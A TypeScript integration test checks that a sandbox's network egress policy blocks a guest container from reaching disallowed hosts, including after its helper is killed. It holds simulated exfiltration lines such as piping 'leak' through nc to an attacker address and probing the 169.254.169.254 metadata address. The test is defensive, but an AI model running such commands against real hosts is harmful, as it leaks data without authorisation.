import { readFileSync } from "node:fs";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import type { EgressPolicy, Sandbox } from "virtcontainers";
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from "vitest";
import { certificateIn } from "../packages/virtcontainers/test/network/egress/support/certificate.ts";
import { leftovers, type TestInstance, testInstance } from "./support/instance.ts";
import { smallInternet } from "./support/net/internet.ts";
import { firstLine, type TestNamespace } from "./support/net/namespace.ts";

let instance: TestInstance;
beforeAll(async () => {
  instance = await testInstance();
});
afterAll(async () => {
  await instance[Symbol.asyncDispose]();
  expect(leftovers(instance)).toEqual([]);
});

const good = "192.0.2.1";
const attacker = "192.0.2.66";
const zone = {
  "example.com": { A: [good], AAAA: ["2001:db8::1"] },
  "evil.test": { A: [attacker] },
};

/** Servers of DNS, TLS, HTTP and echo on all addresses of a namespace. */
async function servers(server: TestNamespace): Promise<void> {
  for (const address of [`${attacker}/32`, "169.254.169.254/32"])
    await server.ip("addr", "add", address, "dev", "lo");
  const folder = await mkdtemp(join(tmpdir(), "vc-egress-"));
  onTestFinished(() => rm(folder, { recursive: true, force: true }));
  const { key, cert, args } = certificateIn(folder);
  await server.run(["openssl", ...args]);
  const script = fileURLToPath(
    new URL(
      "../packages/virtcontainers/test/network/egress/support/internet-server.ts",
      import.meta.url,
    ),
  );
  const argv = [
    process.execPath,
    "--import",
    "tsx",
    script,
    cert,
    key,
    JSON.stringify(zone),
    "10.9.0.1",
  ];
  await firstLine(server.start(argv));
}

interface Guarded {
  sandbox: Sandbox;
  netns: TestNamespace;
  server: TestNamespace;
  /** What a command of the guest says, or `failed`. */
  guest(...argv: string[]): Promise<string>;
}

async function guarded(id: string, egress: EgressPolicy): Promise<Guarded> {
  const { sandbox: netns, server } = await smallInternet();
  await servers(server);
  // A new namespace has what this host has.
  await netns.run(["sh", "-c", "echo 0 > /proc/sys/net/ipv4/ip_forward"]);
  const sandbox = await instance.vc.runSandbox({
    id,
    containers: [{ id: "main", image: "busybox", waits: true }],
    networkConfig: { netNSPath: netns.path },
    network: { dns: { servers: ["10.9.0.1"] }, egress },
  });
  onTestFinished(() => instance.vc.deleteSandbox(id, { force: true }).catch(() => {}));
  const guest = async (...argv: string[]): Promise<string> => {
    const { exitCode, stdout } = await sandbox.exec(argv, { timeoutMs: 30_000 });
    return exitCode === 0 ? stdout : "failed";
  };
  await guest("sh", "-c", "echo nameserver 192.0.2.53 > /etc/resolv.conf");
  return { sandbox, netns, server, guest };
}

/** Of busybox only what it does without its own resolver, which a static one has not. */
const get = (host: string, address: string): string[] => [
  "wget",
  "-qO-",
  "--header",
  `Host: ${host}`,
  `http://${address}/`,
];
const echo = (address: string): string[] => ["sh", "-c", `echo hello | timeout 3 nc ${address} 22`];

/** What came from the guest onto the wire while something was done. */
async function onWire(server: TestNamespace, act: () => Promise<void>): Promise<string[]> {
  const filter = "ether src 02:00:00:00:09:02 and not arp and not icmp6 or udp dst port 9";
  const dump = server.start([
    "sh",
    "-c",
    `exec tcpdump -i down0 -n -l --immediate-mode '${filter}' 2>&1`,
  ]);
  const lines: string[] = [];
  const marked = new Promise<void>((resolve) => {
    let text = "";
    dump.stdout?.on("data", (bytes) => {
      text += bytes;
      for (const line of text.split("\n").slice(0, -1)) {
        if (/\.9: UDP/.test(line)) resolve();
        else if (/^\d\d:\d\d:\d\d/.test(line)) lines.push(line);
      }
      text = text.slice(text.lastIndexOf("\n") + 1);
    });
  });
  const listening = new Promise<void>((resolve) => {
    dump.stdout?.on("data", (bytes) => String(bytes).includes("listening on") && resolve());
  });
  await listening;
  await act();
  await server.ip("neigh", "replace", "10.9.0.99", "lladdr", "02:00:00:00:00:99", "dev", "down0");
  await server.run(["bash", "-c", "echo mark > /dev/udp/10.9.0.99/9"]);
  await marked;
  dump.kill("SIGKILL");
  return lines;
}

describe.skipIf(process.getuid?.() !== 0)("an egress policy", () => {
  test("lets a guest reach what it allows, and sends nothing for what it doesn't", async () => {
    const { guest, server, netns, sandbox } = await guarded("egress", { allow: ["example.com"] });
    // The name counts, not the address that the guest connects to.
    expect(await guest(...get("example.com", attacker))).toBe(`http ${good} example.com\n`);
    expect(await guest(...echo(good))).toBe("failed");
    expect(await guest("nslookup", "example.com")).toContain(good);
    expect(await guest(...echo(good))).toBe("hello\n");
    const wire = await onWire(server, async () => {
      expect(await guest("nslookup", "evil.test")).toBe("failed");
      expect(await guest("nslookup", "evil.test", attacker)).toBe("failed");
      for (const address of [attacker, "169.254.169.254", "10.9.0.1"]) {
        expect(await guest(...echo(address))).toBe("failed");
        expect(await guest("ping", "-c1", "-W1", address)).toBe("failed");
      }
      expect(await guest(...get(good, good))).toBe("failed");
      expect(await guest(...get("evil.test", good))).toBe("failed");
      expect(await guest(...echo("2001:db8::66"))).toBe("failed");
    });
    expect(wire).toEqual([]);
    await sandbox.delete({ force: true });
    // The namespace is as it was.
    expect(await netns.run(["nft", "list", "ruleset"])).toBe("");
    expect(await netns.ip("rule")).not.toContain("fwmark");
    expect(await netns.ip("-4", "route")).toMatch(
      /default via 10\.9\.0\.1.*\n10\.9\.0\.0\/24 dev eth0/,
    );
    expect(await netns.ip("addr", "show", "eth0")).toMatch(/10\.9\.0\.2\/24.*fd09::2\/64/s);
    expect(await netns.run(["cat", "/proc/sys/net/ipv4/ip_forward"])).toBe("0\n");
  });

  test("can be changed while the guest runs, and its decisions are told", async () => {
    const { guest, sandbox } = await guarded("changed", { default: "deny" });
    expect(await guest(...echo(attacker))).toBe("failed");
    await sandbox.setEgress({ allow: [`${attacker}:22`] });
    expect(await guest(...echo(attacker))).toBe("hello\n");
    expect(await sandbox.egressStatus()).toMatchObject({
      policy: { allow: [`${attacker}:22`] },
      rules: expect.arrayContaining([
        {
          rule: `${attacker}:22`,
          verdict: "allow",
          packets: expect.any(Number),
          bytes: expect.any(Number),
        },
      ]),
    });
    const wanted = new Set([`deny ${attacker} default`, `allow ${attacker} ${attacker}:22`]);
    for await (const { verdict, address, rule } of sandbox.egressLog({ follow: true })) {
      wanted.delete(`${verdict} ${address} ${rule}`);
      if (wanted.size === 0) break;
    }
  });

  test("lets nothing through when its helper is killed, and the next call starts it again", async () => {
    const { guest, server, sandbox } = await guarded("killed", { allow: [attacker] });
    expect(await guest(...echo(attacker))).toBe("hello\n");
    // A command that is there before, since the next call would mend it.
    const script = `echo ready; read line; echo leak | nc -w 1 ${attacker} 22; echo done`;
    const talk = sandbox.exec(["sh", "-c", script]);
    const input = talk.stdin;
    const lines = talk.lines()[Symbol.asyncIterator]();
    expect((await lines.next()).value).toBe("ready");
    const { vc } = instance;
    const ledger = readFileSync(join(instance.stateDir, "sbs/killed/ledger"), "utf8");
    const pid = Number(/"name":"egress"[^\n]*"pid":(\d+)/.exec(ledger)?.[1]);
    // With whoever would start it again.
    process.kill(-pid, "SIGKILL");
    const wire = await onWire(server, async () => {
      input.end("go\n");
      expect((await lines.next()).value).toBe("done");
    });
    expect(wire).toEqual([]);
    const again = await vc.fetchSandbox("killed");
    expect((await again.exec(echo(attacker))).stdout).toBe("hello\n");
  });
});
